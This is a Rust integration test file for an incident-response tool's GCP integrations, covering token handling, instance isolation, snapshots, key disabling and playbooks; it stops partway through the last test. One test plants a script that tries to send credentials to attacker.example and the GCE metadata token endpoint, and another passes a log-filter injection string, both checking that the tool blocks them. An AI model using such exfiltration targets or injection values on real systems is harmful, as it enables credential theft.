//! The GCP integrations (`integrations/gcp-compute`, `integrations/gcp-iam`) and the `gcp_oauth`
//! auth against the fake in `fakes/gcp.py`, which follows the REST references of Compute Engine
//! v1, IAM v1 and Cloud Logging v2 and validates every request against the Discovery documents
//! google-api-python-client 2.202.0 ships; its token endpoint verifies the JWT assertion's RS256
//! signature with google-auth. Each action is checked by the state it leaves in the fake; the
//! stock playbooks `gcp-vm-compromise` and `gcp-key-compromise` run end to end through the real
//! server.

mod support;

use std::path::{Path, PathBuf};

use cordon::engine::exec::{ActionCall, ActionError, ActionRunner};
use cordon::integrations::Integrations;
use serde_json::{Value, json};
use sha2::Digest;
use support::gcp::{FakeGcp, TestKey};
use support::*;

const PROJECT: &str = "test-project-15511551515";
const ZONE: &str = "us-central1-a";
/// The instance the shared SCC fixture names.
const VM: &str = "bad-ip-caller";
const SA: &str = "cordon-responder@test-project-15511551515.iam.gserviceaccount.com";
const CI: &str = "ci-deployer@test-project-15511551515.iam.gserviceaccount.com";
const KEY_ID: &str = "1f2e3d4c5b6a79880716253443526170819a0b1c";
const TAG: &str = "cordon-quarantine";

fn repo(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(rel)
}

fn instance_path(name: &str) -> String {
    format!("projects/{PROJECT}/zones/{ZONE}/instances/{name}")
}

fn full_name(name: &str) -> String {
    format!("//compute.googleapis.com/{}", instance_path(name))
}

fn key_name() -> String {
    format!("projects/{PROJECT}/serviceAccounts/{CI}/keys/{KEY_ID}")
}

/// The fake, trusting Cordon's key, with the fixture's instance and the CI service account.
struct Setup {
    fake: FakeGcp,
    key: TestKey,
    dir: tempfile::TempDir,
}

impl Setup {
    async fn start() -> Setup {
        let fake = FakeGcp::start().await;
        let key = TestKey::new(SA, 0);
        fake.trust(&key).await;
        fake.seed_instance(json!({
            "project": PROJECT, "zone": ZONE, "name": VM, "tags": ["web", "ssh"],
            "disks": [{"name": VM, "sizeGb": "10"}, {"name": format!("{VM}-data"), "sizeGb": "200"}],
        }))
        .await;
        fake.seed_account(json!({ "project": PROJECT, "email": CI, "keys": [KEY_ID] }))
            .await;
        Setup {
            fake,
            key,
            dir: tempfile::tempdir().unwrap(),
        }
    }

    /// The `integrations:` section loading both GCP integrations, with the key file as
    /// credentials (or `auth`), every Google host routed to the fake.
    fn yaml(&self, auth: Option<&str>, settings: &str) -> String {
        let auth = match auth {
            Some(auth) => auth.to_owned(),
            None => format!(
                "service_account_key_file: {}",
                self.key.write(self.dir.path()).display()
            ),
        };
        format!(
            "integrations:\n  paths: [{}, {}]\n  credentials:\n{}{settings}",
            repo("integrations/gcp-compute").display(),
            repo("integrations/gcp-iam").display(),
            self.fake.credentials_yaml(&auth)
        )
    }

    fn load_with(&self, auth: Option<&str>, settings: &str) -> Integrations {
        let text = self.yaml(auth, settings);
        let config = cordon::config::parse(&text, Path::new("test.yaml"))
            .unwrap_or_else(|d| panic!("config: {d}"));
        Integrations::load(&config.integrations, reqwest::Client::new(), None)
            .unwrap_or_else(|d| panic!("integrations load: {d:?}"))
    }

    fn load(&self) -> Integrations {
        self.load_with(None, "")
    }

    async fn instance(&self, name: &str) -> Value {
        self.fake.state().await["instances"][instance_path(name)].clone()
    }

    async fn tags(&self, name: &str) -> Vec<String> {
        self.instance(name).await["tags"]["items"]
            .as_array()
            .map(|a| a.iter().map(|t| t.as_str().unwrap().to_owned()).collect())
            .unwrap_or_default()
    }

    async fn firewalls(&self) -> serde_json::Map<String, Value> {
        self.fake.state().await["firewalls"]
            .as_object()
            .cloned()
            .unwrap_or_default()
    }
}

fn call_for(step: &str) -> ActionCall {
    ActionCall {
        run_id: "run-1".into(),
        step_id: step.into(),
        playbook: "test".into(),
        incident_id: Some("inc-1".into()),
        idempotency_key: format!("run-1:{step}"),
        dry_run: false,
        account: None,
    }
}

trait Call {
    async fn run(&self, action: &str, inputs: Value, step: &str) -> Result<Value, ActionError>;

    async fn ok(&self, action: &str, inputs: Value, step: &str) -> Value {
        self.run(action, inputs, step)
            .await
            .unwrap_or_else(|e| panic!("{action}: {e:?}"))
    }
}

impl Call for Integrations {
    async fn run(&self, action: &str, inputs: Value, step: &str) -> Result<Value, ActionError> {
        self.call(action, inputs, &call_for(step)).await
    }
}

// ---- auth -----------------------------------------------------------------------------------------

#[tokio::test]
async fn the_signed_jwt_is_exchanged_once_and_the_token_reused_across_integrations() {
    let s = Setup::start().await;
    let integrations = s.load();
    let vm = json!({ "instance": full_name(VM) });
    integrations
        .ok("gcp-compute.stop_instance", vm.clone(), "stop")
        .await;
    integrations
        .ok("gcp-compute.start_instance", vm, "start")
        .await;
    integrations
        .ok(
            "gcp-iam.disable_service_account",
            json!({ "service_account": CI }),
            "disable",
        )
        .await;
    // Each integration holds its own token: one verified exchange each, for all their calls.
    let tokens = s.fake.tokens().await;
    assert_eq!(
        tokens,
        vec![json!({ "kind": "jwt", "ok": true, "iss": SA }); 2]
    );
    assert!(s.fake.count("", "/compute/v1/").await >= 4);
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn a_short_lived_token_is_fetched_again_and_an_inline_key_works_too() {
    let s = Setup::start().await;
    // A token that lives 1 s is never reused (it would expire in flight).
    s.fake.config(json!({ "token_lifetime": 1 })).await;
    let inline = format!("service_account_key: '{}'", s.key.json.replace('\'', "''"));
    let integrations = s.load_with(Some(&inline), "");
    let vm = json!({ "instance": instance_path(VM) });
    integrations
        .ok("gcp-compute.stop_instance", vm.clone(), "stop")
        .await;
    integrations
        .ok("gcp-compute.stop_instance", vm, "stop")
        .await;
    let exchanges = s.fake.tokens().await;
    assert!(exchanges.len() >= 3, "{exchanges:?}");
    assert!(exchanges.iter().all(|t| t["ok"] == true), "{exchanges:?}");
}

#[tokio::test]
async fn a_key_google_does_not_know_is_refused_clearly_without_key_material() {
    let s = Setup::start().await;
    // The fake trusts the first key for SA; Cordon signs with the second.
    let wrong = TestKey::new(SA, 1);
    let file = wrong.write(s.dir.path());
    let integrations = s.load_with(
        Some(&format!("service_account_key_file: {}", file.display())),
        "",
    );
    let err = integrations
        .run(
            "gcp-compute.isolate_instance",
            json!({ "instance": full_name(VM) }),
            "isolate",
        )
        .await
        .expect_err("the assertion's signature does not verify");
    assert!(!err.retryable, "a wrong key does not fix itself: {err:?}");
    assert!(
        err.message.contains("Google refused the token request")
            && err.message.contains("invalid_grant")
            && err.message.contains("Invalid JWT Signature")
            && err.message.contains(SA),
        "{}",
        err.message
    );
    let printed = format!("{err:?}");
    for line in wrong.private_lines() {
        assert!(!printed.contains(line), "key material leaked: {printed}");
    }
    assert!(!printed.contains("eyJ"), "the assertion leaked: {printed}");
    assert_eq!(
        s.fake.count("", "/compute/").await,
        0,
        "nothing reached Compute"
    );
    assert_eq!(s.tags(VM).await, ["web", "ssh"]);
    assert_eq!(
        s.fake.tokens().await[0]["reason"],
        "invalid_grant: Invalid JWT Signature."
    );
}

#[tokio::test]
async fn an_answer_that_echoes_the_request_never_shows_the_key_or_the_assertion() {
    // A token endpoint that answers with everything it was sent, key file included.
    let s = Setup::start().await;
    let echo = support::fake::serve(axum::Router::new().fallback(|body: String| async move {
        (
            axum::http::StatusCode::BAD_REQUEST,
            json!({ "error": "invalid_request", "error_description": body }).to_string(),
        )
    }))
    .await;
    let mut key: Value = serde_json::from_str(&s.key.json).unwrap();
    let private = key["private_key"].as_str().unwrap().to_owned();
    key["token_uri"] = json!("https://oauth2.googleapis.com/token");
    let file = s.dir.path().join("echo.json");
    std::fs::write(&file, key.to_string()).unwrap();
    let yaml = format!(
        "integrations:\n  paths: [{}]\n  credentials:\n    gcp:\n      service_account_key_file: {}\n      endpoints:\n        oauth2.googleapis.com: {}\n        compute.googleapis.com: {}\n",
        repo("integrations/gcp-compute").display(),
        file.display(),
        echo.base,
        s.fake.base
    );
    let config = cordon::config::parse(&yaml, Path::new("t.yaml")).unwrap();
    let integrations =
        Integrations::load(&config.integrations, reqwest::Client::new(), None).unwrap();
    let err = integrations
        .run(
            "gcp-compute.stop_instance",
            json!({ "instance": instance_path(VM) }),
            "stop",
        )
        .await
        .expect_err("refused");
    let printed = format!("{err:?}");
    assert!(printed.contains("invalid_request"), "{printed}");
    assert!(
        printed.contains("**redacted**"),
        "the echoed assertion is blanked: {printed}"
    );
    for line in private.lines().filter(|l| !l.starts_with("-----")) {
        assert!(!printed.contains(line), "{printed}");
    }
    let assertion_sent = echo.requests()[0].body.clone();
    let assertion = String::from_utf8_lossy(&assertion_sent);
    let jwt = assertion.split("assertion=").nth(1).unwrap();
    assert!(
        !printed.contains(jwt.split('.').nth(2).unwrap()),
        "{printed}"
    );
}

#[tokio::test]
async fn on_gce_the_metadata_server_gives_the_token() {
    let s = Setup::start().await;
    let integrations = s.load_with(Some(""), "");
    integrations
        .ok(
            "gcp-compute.stop_instance",
            json!({ "instance": instance_path(VM) }),
            "stop",
        )
        .await;
    assert_eq!(s.instance(VM).await["status"], "TERMINATED");
    assert_eq!(
        s.fake.tokens().await,
        [json!({ "kind": "metadata", "ok": true })],
        "asked with Metadata-Flavor: Google, once"
    );
}

#[tokio::test]
async fn a_script_cannot_reach_a_host_outside_its_manifest_nor_the_metadata_server() {
    let s = Setup::start().await;
    let folder = s.dir.path().join("gcp-snoop");
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(
        folder.join("manifest.yaml"),
        "name: gcp-snoop\ndescription: tries to send the token elsewhere\nauth: { kind: gcp_oauth, credentials: gcp }\nhosts: [\"compute.googleapis.com\"]\nactions:\n  leak:\n    description: x\n    kind: query\n    side_effect: false\n    idempotent: true\n    inputs:\n      url: { type: string, required: true }\n",
    )
    .unwrap();
    std::fs::write(
        folder.join("actions.rhai"),
        "fn leak(input) { http(#{ url: input.url }) }\n",
    )
    .unwrap();
    let yaml = format!(
        "integrations:\n  paths: [{}]\n  credentials:\n{}",
        folder.display(),
        s.fake.credentials_yaml(&format!(
            "service_account_key_file: {}",
            s.key.write(s.dir.path()).display()
        ))
    );
    let config = cordon::config::parse(&yaml, Path::new("t.yaml")).unwrap();
    let integrations =
        Integrations::load(&config.integrations, reqwest::Client::new(), None).unwrap();
    for url in [
        "https://attacker.example/collect",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/computeMetadata/v1/",
    ] {
        let err = integrations
            .run("gcp-snoop.leak", json!({ "url": url }), "leak")
            .await
            .expect_err("refused");
        assert!(
            err.message.contains("is not in the hosts"),
            "{url}: {}",
            err.message
        );
    }
    assert!(
        s.fake.tokens().await.is_empty(),
        "no token was even fetched"
    );
}

// ---- gcp-compute ---------------------------------------------------------------------------------

#[tokio::test]
async fn isolate_tags_the_instance_behind_deny_all_rules_and_release_removes_only_that_tag() {
    let s = Setup::start().await;
    let integrations = s.load();
    let out = integrations
        .ok(
            "gcp-compute.isolate_instance",
            json!({ "instance": full_name(VM) }),
            "isolate",
        )
        .await;
    assert_eq!(s.tags(VM).await, ["web", "ssh", TAG]);
    assert_eq!(out["previous_tags"], json!(["web", "ssh"]));
    assert_eq!(
        (out["changed"].as_bool(), out["tag"].as_str()),
        (Some(true), Some(TAG))
    );
    assert_eq!(out["instance"], instance_path(VM));

    let rules = s.firewalls().await;
    assert_eq!(rules.len(), 4, "{rules:?}");
    let mut seen = Vec::new();
    for (key, rule) in &rules {
        assert!(key.starts_with(&format!(
            "projects/{PROJECT}/global/firewalls/{TAG}-default-"
        )));
        assert_eq!(rule["priority"], 0, "{rule}");
        assert_eq!(rule["denied"], json!([{ "IPProtocol": "all" }]), "{rule}");
        assert!(rule.get("allowed").is_none());
        assert_eq!(rule["targetTags"], json!([TAG]));
        assert_eq!(
            rule["network"],
            format!(
                "https://www.googleapis.com/compute/v1/projects/{PROJECT}/global/networks/default"
            )
        );
        assert!(
            rule["description"]
                .as_str()
                .unwrap()
                .contains("Managed by Cordon")
        );
        let ranges = if rule["direction"] == "INGRESS" {
            &rule["sourceRanges"]
        } else {
            &rule["destinationRanges"]
        };
        seen.push(format!(
            "{} {}",
            rule["direction"].as_str().unwrap(),
            ranges[0].as_str().unwrap()
        ));
    }
    seen.sort();
    assert_eq!(
        seen,
        [
            "EGRESS 0.0.0.0/0",
            "EGRESS ::/0",
            "INGRESS 0.0.0.0/0",
            "INGRESS ::/0"
        ]
    );

    // A repeat changes nothing and records the same previous tags.
    let again = integrations
        .ok(
            "gcp-compute.isolate_instance",
            json!({ "instance": instance_path(VM) }),
            "isolate",
        )
        .await;
    assert_eq!(again["changed"], false);
    assert_eq!(again["previous_tags"], json!(["web", "ssh"]));
    assert_eq!(
        s.fake.count("POST", "/global/firewalls").await,
        4,
        "rules created once"
    );
    assert_eq!(s.fake.count("POST", "/setTags").await, 1);

    // Someone adds a tag meanwhile; the undo (the step's record as `previous`) removes only ours.
    s.fake
        .post(
            "/_fake/tags",
            json!({ "instance": instance_path(VM), "items": ["web", "ssh", TAG, "forensics"] }),
        )
        .await;
    let back = integrations
        .ok(
            "gcp-compute.release_instance",
            json!({ "instance": full_name(VM), "previous": out }),
            "isolate:undo",
        )
        .await;
    assert_eq!(back["changed"], true);
    assert_eq!(s.tags(VM).await, ["web", "ssh", "forensics"]);
    assert_eq!(
        s.firewalls().await.len(),
        4,
        "the rules stay for the next incident"
    );
    // Released twice: nothing to do, no request that writes.
    let twice = integrations
        .ok(
            "gcp-compute.release_instance",
            json!({ "instance": full_name(VM) }),
            "release",
        )
        .await;
    assert_eq!(twice["changed"], false);
    assert_eq!(s.fake.count("POST", "/setTags").await, 2);
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn a_rule_of_that_name_that_is_not_cordons_is_refused_and_nothing_is_tagged() {
    let s = Setup::start().await;
    s.fake
        .post(
            "/_fake/firewalls",
            json!({
                "_project": PROJECT, "name": format!("{TAG}-default-in4"), "priority": 0,
                "direction": "INGRESS", "allowed": [{ "IPProtocol": "tcp", "ports": ["22"] }],
                "sourceRanges": ["0.0.0.0/0"], "targetTags": [TAG],
                "network": format!("https://www.googleapis.com/compute/v1/projects/{PROJECT}/global/networks/default"),
            }),
        )
        .await;
    let err = s
        .load()
        .run(
            "gcp-compute.isolate_instance",
            json!({ "instance": full_name(VM) }),
            "isolate",
        )
        .await
        .expect_err("an allow rule under Cordon's name must not be trusted");
    assert!(!err.retryable);
    assert!(
        err.message.contains(&format!("{TAG}-default-in4")) && err.message.contains("deny-all"),
        "{}",
        err.message
    );
    assert_eq!(s.tags(VM).await, ["web", "ssh"]);
    assert_eq!(
        s.fake.count("POST", "/compute/").await,
        0,
        "nothing written"
    );
}

#[tokio::test]
async fn a_tags_conflict_or_a_running_operation_is_retried_not_failed() {
    let s = Setup::start().await;
    let integrations = s.load();
    let vm = json!({ "instance": full_name(VM) });
    // Compute Engine's answer when the fingerprint is stale: 412 conditionNotMet.
    s.fake.inject("/setTags", 412, 1).await;
    let err = integrations
        .run("gcp-compute.isolate_instance", vm.clone(), "isolate")
        .await
        .expect_err("the fingerprint changed");
    assert!(err.retryable && err.message.contains("changed"), "{err:?}");
    // An operation still running after operations.wait: checked again by the step's retry.
    s.fake.config(json!({ "operation_pending_polls": 1 })).await;
    let err = integrations
        .run("gcp-compute.stop_instance", vm.clone(), "stop")
        .await
        .expect_err("still running");
    assert!(
        err.retryable && err.message.contains("still RUNNING"),
        "{err:?}"
    );
    s.fake.config(json!({ "operation_pending_polls": 0 })).await;
    integrations
        .ok("gcp-compute.isolate_instance", vm, "isolate")
        .await;
    assert_eq!(s.tags(VM).await, ["web", "ssh", TAG]);
    // A permission the role lacks is a clear, final error.
    s.fake.inject("/setTags", 403, 1).await;
    let err = integrations
        .run(
            "gcp-compute.release_instance",
            json!({ "instance": instance_path(VM) }),
            "release",
        )
        .await
        .expect_err("forbidden");
    assert!(!err.retryable && err.message.contains("403"), "{err:?}");
    assert_eq!(s.tags(VM).await, ["web", "ssh", TAG]);
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn snapshot_disks_takes_labelled_snapshots_as_evidence_once() {
    let s = Setup::start().await;
    let integrations = s.load();
    let vm = json!({ "instance": full_name(VM) });
    // Snapshots are CREATING at first: the step fails as retryable, with the snapshots started.
    s.fake.config(json!({ "snapshot_pending_gets": 1 })).await;
    let err = integrations
        .run("gcp-compute.snapshot_disks", vm.clone(), "snapshot")
        .await
        .expect_err("still being created");
    assert!(
        err.retryable && err.message.contains("still being created"),
        "{err:?}"
    );
    let snapshots = s.fake.state().await["snapshots"].clone();
    assert_eq!(snapshots.as_object().unwrap().len(), 2, "{snapshots}");

    let out = integrations
        .ok("gcp-compute.snapshot_disks", vm, "snapshot")
        .await;
    let state = s.fake.state().await;
    let snapshots = state["snapshots"].as_object().unwrap();
    assert_eq!(snapshots.len(), 2, "the retry took no second copy");
    assert_eq!(s.fake.count("POST", "/global/snapshots").await, 2);
    let mut sources: Vec<&str> = snapshots
        .values()
        .map(|snap| {
            assert_eq!(snap["status"], "READY");
            assert_eq!(snap["labels"]["cordon-incident"], "inc-1", "{snap}");
            assert_eq!(snap["labels"]["cordon-run"], "run-1", "{snap}");
            assert!(snap["name"].as_str().unwrap().starts_with("cordon-"));
            snap["sourceDisk"].as_str().unwrap()
        })
        .collect();
    sources.sort();
    let disk = |name: &str| {
        format!(
            "https://www.googleapis.com/compute/v1/projects/{PROJECT}/zones/{ZONE}/disks/{name}"
        )
    };
    assert_eq!(sources, [disk(VM), disk(&format!("{VM}-data"))]);

    let evidence = out["evidence"].as_array().unwrap();
    assert_eq!(evidence.len(), 2);
    for (record, snapshot) in evidence.iter().zip(out["snapshots"].as_array().unwrap()) {
        assert_eq!(record["kind"], "disk-snapshot");
        assert_eq!(record["location"], snapshot["snapshot"]);
        let digest = hex::encode(sha2::Sha256::digest(record["details"].to_string()));
        assert_eq!(record["sha256"], digest, "the hash is of the record");
        assert_eq!(record["action"], "gcp-compute.snapshot_disks");
    }
    assert_eq!(out["snapshots"][0]["boot"], true);
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn stop_records_whether_it_ran_and_the_undo_starts_only_what_cordon_stopped() {
    let s = Setup::start().await;
    let integrations = s.load();
    let vm = json!({ "instance": instance_path(VM) });
    let out = integrations
        .ok("gcp-compute.stop_instance", vm.clone(), "stop")
        .await;
    assert_eq!(s.instance(VM).await["status"], "TERMINATED");
    assert_eq!(
        (out["was_running"].as_bool(), out["changed"].as_bool()),
        (Some(true), Some(true))
    );
    let again = integrations
        .ok("gcp-compute.stop_instance", vm.clone(), "stop")
        .await;
    assert_eq!(
        (again["was_running"].as_bool(), again["changed"].as_bool()),
        (Some(false), Some(false))
    );
    assert_eq!(s.fake.count("POST", "/stop").await, 1);

    // The undo of the repeat (it was already stopped) leaves it stopped...
    let kept = integrations
        .ok(
            "gcp-compute.start_instance",
            json!({ "instance": instance_path(VM), "previous": again }),
            "stop:undo",
        )
        .await;
    assert_eq!(kept["changed"], false, "{kept}");
    assert_eq!(s.instance(VM).await["status"], "TERMINATED");
    // ...the undo of the first starts it.
    integrations
        .ok(
            "gcp-compute.start_instance",
            json!({ "instance": instance_path(VM), "previous": out }),
            "stop:undo",
        )
        .await;
    assert_eq!(s.instance(VM).await["status"], "RUNNING");
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn a_missing_instance_or_a_wrong_name_fails_clearly() {
    let s = Setup::start().await;
    let integrations = s.load();
    let err = integrations
        .run(
            "gcp-compute.isolate_instance",
            json!({ "instance": instance_path("gone") }),
            "i",
        )
        .await
        .expect_err("no such instance");
    assert!(
        !err.retryable && err.message.contains("gone") && err.message.contains("not found"),
        "{}",
        err.message
    );
    let err = integrations
        .run(
            "gcp-compute.snapshot_disks",
            json!({ "instance": format!("projects/{PROJECT}/zones/{ZONE}/disks/{VM}") }),
            "s",
        )
        .await
        .expect_err("a disk is not an instance");
    assert!(err.message.contains("instance"), "{}", err.message);
    assert!(
        s.fake.state().await["snapshots"]
            .as_object()
            .unwrap()
            .is_empty()
    );
    assert_eq!(s.firewalls().await.len(), 0);
}

// ---- gcp-iam ---------------------------------------------------------------------------------------

#[tokio::test]
async fn disable_key_and_its_undo_and_a_key_disabled_before_stays_disabled() {
    let s = Setup::start().await;
    let integrations = s.load();
    let full = format!("//iam.googleapis.com/{}", key_name());
    let out = integrations
        .ok(
            "gcp-iam.disable_service_account_key",
            json!({ "key_name": full }),
            "disable",
        )
        .await;
    let key = |state: &Value| state["keys"][key_name()].clone();
    assert_eq!(key(&s.fake.state().await)["disabled"], true);
    assert_eq!(
        (
            out["was_enabled"].as_bool(),
            out["service_account"].as_str()
        ),
        (Some(true), Some(CI))
    );
    let again = integrations
        .ok(
            "gcp-iam.disable_service_account_key",
            json!({ "key_name": key_name() }),
            "disable",
        )
        .await;
    assert_eq!(again["changed"], false);
    assert_eq!(s.fake.count("POST", ":disable").await, 1);

    integrations
        .ok(
            "gcp-iam.enable_service_account_key",
            json!({ "key_name": full, "previous": again }),
            "undo",
        )
        .await;
    assert_eq!(
        key(&s.fake.state().await)["disabled"],
        true,
        "disabled before: stays so"
    );
    integrations
        .ok(
            "gcp-iam.enable_service_account_key",
            json!({ "key_name": full, "previous": out }),
            "undo",
        )
        .await;
    assert_eq!(key(&s.fake.state().await)["disabled"], false);

    let err = integrations
        .run(
            "gcp-iam.disable_service_account_key",
            json!({ "key_name": format!("projects/{PROJECT}/serviceAccounts/{CI}/keys/00ff") }),
            "d",
        )
        .await
        .expect_err("no such key");
    assert!(err.message.contains("was not found"), "{}", err.message);
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn disable_service_account_by_email_and_enable_it_again() {
    let s = Setup::start().await;
    let integrations = s.load();
    let out = integrations
        .ok(
            "gcp-iam.disable_service_account",
            json!({ "service_account": CI }),
            "disable",
        )
        .await;
    assert_eq!(
        s.fake.state().await["service_accounts"][CI]["disabled"],
        true
    );
    assert_eq!(
        out["name"],
        format!("projects/{PROJECT}/serviceAccounts/{CI}")
    );
    integrations
        .ok(
            "gcp-iam.enable_service_account",
            json!({ "service_account": CI, "previous": out }),
            "undo",
        )
        .await;
    assert_eq!(
        s.fake.state().await["service_accounts"][CI]["disabled"],
        false
    );
    s.fake.assert_all_valid().await;
}

fn audit_entry(n: u32, at: &str, principal: &str, resource: &str, method: &str) -> Value {
    json!({
        "logName": format!("projects/{PROJECT}/logs/cloudaudit.googleapis.com%2Factivity"),
        "insertId": format!("e{n:03}"),
        "timestamp": at,
        "severity": "NOTICE",
        "resource": { "type": "gce_instance", "labels": { "project_id": PROJECT, "zone": ZONE } },
        "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "serviceName": "compute.googleapis.com",
            "methodName": method,
            "resourceName": resource,
            "authenticationInfo": { "principalEmail": principal },
            "requestMetadata": { "callerIp": "203.0.113.7", "callerSuppliedUserAgent": "gcloud/471.0.0" },
        },
    })
}

/// `seconds` ago, RFC 3339.
fn ago(seconds: i64) -> String {
    (chrono::Utc::now() - chrono::Duration::seconds(seconds))
        .to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
}

#[tokio::test]
async fn list_audit_logs_reads_every_page_of_the_window_oldest_first_up_to_the_cap() {
    let s = Setup::start().await;
    let vm = instance_path(VM);
    let mut entries = Vec::new();
    for n in 0..5 {
        entries.push(audit_entry(
            n,
            &ago(3600 - i64::from(n) * 60),
            CI,
            &vm,
            "v1.compute.instances.setMetadata",
        ));
    }
    entries.push(audit_entry(10, &ago(3 * 86400), CI, &vm, "old"));
    entries.push(audit_entry(
        11,
        &ago(600),
        "someone@example.com",
        "projects/x",
        "other",
    ));
    let mut not_audit = audit_entry(12, &ago(500), CI, &vm, "app");
    not_audit["logName"] = json!(format!("projects/{PROJECT}/logs/syslog"));
    entries.push(not_audit);
    s.fake.seed_entries(json!(entries)).await;
    s.fake.config(json!({ "page_cap": 2 })).await;

    let integrations = s.load();
    let out = integrations
        .ok(
            "gcp-iam.list_audit_logs",
            json!({ "principal": CI }),
            "timeline",
        )
        .await;
    assert_eq!(out["count"], 5, "{out}");
    assert_eq!(out["project"], PROJECT, "from the account's e-mail");
    let ids: Vec<&str> = texts(&out["entries"], "insert_id");
    assert_eq!(ids, ["e000", "e001", "e002", "e003", "e004"]);
    assert_eq!(out["entries"][0]["caller_ip"], "203.0.113.7");
    assert_eq!(out["entries"][0]["status"], 0);
    assert_eq!(out["truncated"], false);
    assert_eq!(
        s.fake.count("POST", "/v2/entries:list").await,
        3,
        "three pages of two"
    );
    let record = &out["evidence"][0];
    assert_eq!(record["kind"], "activity-timeline");
    let digest = hex::encode(sha2::Sha256::digest(out["entries"].to_string()));
    assert_eq!(record["sha256"], digest);

    // By resource (the full name, as an alert gives it), capped by the setting.
    let capped = s.load_with(None, "  settings:\n    gcp-iam:\n      max_entries: 3\n");
    let out = capped
        .ok(
            "gcp-iam.list_audit_logs",
            json!({ "resource": full_name(VM) }),
            "timeline",
        )
        .await;
    assert_eq!(
        (out["count"].as_u64(), out["truncated"].as_bool()),
        (Some(3), Some(true))
    );

    // A value that tries to widen the filter is only a value.
    let out = integrations
        .ok(
            "gcp-iam.list_audit_logs",
            json!({ "principal": "x\" OR logName:\"", "project": PROJECT }),
            "timeline",
        )
        .await;
    assert_eq!(out["count"], 0, "{out}");
    s.fake.assert_all_valid().await;
}

// ---- the stock playbooks, end to end --------------------------------------------------------------

/// A server running `playbooks` (files under playbooks/) against the fake, with `extra` config.
async fn server(s: &Setup, playbooks: &[&str], extra: &str) -> TestServer {
    let paths: Vec<String> = playbooks
        .iter()
        .map(|p| repo(&format!("playbooks/{p}")).display().to_string())
        .collect();
    let config = format!(
        "playbooks:\n  paths: [{}]\napprovers:\n  on-call: [cli:analyst, cli:lead]\n  admins: [cli:root]\n{extra}{}{}",
        paths.join(", "),
        s.yaml(None, ""),
        all_sources()
    );
    TestServer::start_with(&config).await
}

/// The shared SCC fixture (Event Threat Detection, `C2: Bad IP` on bad-ip-caller), with `edit`
/// applied to its text.
fn etd_finding(edit: impl Fn(String) -> String) -> Vec<u8> {
    let text = String::from_utf8(read_fixture(
        "alerts/gcp_scc/sra_notification_etd_bad_ip.json",
    ))
    .unwrap();
    edit(text).into_bytes()
}

/// Posts an SCC notification; the run it started, waiting at `approve`, and its prompt.
async fn start_run(server: &TestServer, body: Vec<u8>) -> (String, String) {
    let answer = server.accept("gcp.scc", body).await;
    let alert_id = answer["alerts"][0]["alert_id"].as_str().unwrap().to_owned();
    let run = server.run_for_alert(&alert_id).await;
    let prompt = server.wait_prompt(&run, "approve").await;
    (run, prompt)
}

async fn decide(server: &TestServer, run: &str, decision: &str) -> Value {
    let (status, body) = server.decide(run, "approve", decision, "cli:analyst").await;
    assert_eq!(status, 200, "{body}");
    server.wait_run(run, "finished", finished).await
}

async fn seed_vm_timeline(s: &Setup) {
    let vm = instance_path(VM);
    s.fake
        .seed_entries(json!([
            audit_entry(1, &ago(7200), CI, &vm, "v1.compute.instances.setMetadata"),
            audit_entry(
                2,
                &ago(3600),
                CI,
                &format!("{vm}/serviceAccounts"),
                "v1.compute.instances.setServiceAccount"
            ),
        ]))
        .await;
}

#[tokio::test]
async fn an_scc_finding_isolates_its_instance_once_the_on_call_approves_and_the_undo_releases_it() {
    let s = Setup::start().await;
    seed_vm_timeline(&s).await;
    let server = server(&s, &["gcp-vm-compromise.yaml"], "").await;
    let (run, prompt) = start_run(&server, etd_finding(|t| t)).await;
    assert!(
        prompt.contains(VM)
            && prompt.contains("2 disk snapshot(s) taken")
            && prompt.contains("2 audit-log entries"),
        "{prompt}"
    );
    // Evidence first: the snapshots exist, nothing is isolated yet.
    let state = s.fake.state().await;
    assert_eq!(state["snapshots"].as_object().unwrap().len(), 2);
    assert!(state["firewalls"].as_object().unwrap().is_empty());
    assert_eq!(s.tags(VM).await, ["web", "ssh"]);

    let done = decide(&server, &run, "approve").await;
    assert_eq!(done["run"]["status"], "succeeded", "{}", done["run"]);
    assert_eq!(s.tags(VM).await, ["web", "ssh", TAG]);
    assert_eq!(s.firewalls().await.len(), 4);
    let incident = done["run"]["incident_id"].as_str().unwrap();
    let shown = server.admin(&format!("/v1/incidents/{incident}")).await;
    let kinds: Vec<&str> = texts(&shown["incident"]["evidence"], "kind");
    assert_eq!(
        kinds.iter().filter(|k| **k == "disk-snapshot").count(),
        2,
        "{shown}"
    );
    assert_eq!(
        kinds.iter().filter(|k| **k == "activity-timeline").count(),
        1,
        "{shown}"
    );

    // `cordon runs undo RUN isolate`: release_instance with the step's record.
    let undo = server
        .undo(&run, "isolate", "cli:analyst", "cli:lead")
        .await;
    assert_eq!(undo["run"]["status"], "succeeded", "{undo}");
    assert_eq!(
        undo["run"]["steps"]["undo"]["action"],
        "gcp-compute.release_instance"
    );
    assert_eq!(s.tags(VM).await, ["web", "ssh"]);
    s.fake.assert_all_valid().await;
}

#[tokio::test]
async fn a_denied_approval_leaves_the_instance_connected() {
    let s = Setup::start().await;
    let server = server(&s, &["gcp-vm-compromise.yaml"], "").await;
    let (run, _) = start_run(&server, etd_finding(|t| t)).await;
    let done = decide(&server, &run, "deny").await;
    assert_eq!(done["run"]["status"], "succeeded", "{}", done["run"]);
    assert_eq!(s.tags(VM).await, ["web", "ssh"]);
    assert!(s.firewalls().await.is_empty(), "no rule was even made");
    assert_eq!(
        s.fake.state().await["snapshots"].as_object().unwrap().len(),
        2,
        "the evidence is kept"
    );
}

#[tokio::test]
async fn a_leaked_key_finding_disables_the_key_once_approved_and_the_undo_enables_it() {
    let s = Setup::start().await;
    s.fake
        .seed_entries(json!([audit_entry(
            1,
            &ago(1800),
            CI,
            "projects/test-project-15511551515/global/firewalls/allow-all",
            "v1.compute.firewalls.insert"
        ),]))
        .await;
    let server = server(&s, &["gcp-key-compromise.yaml"], "").await;
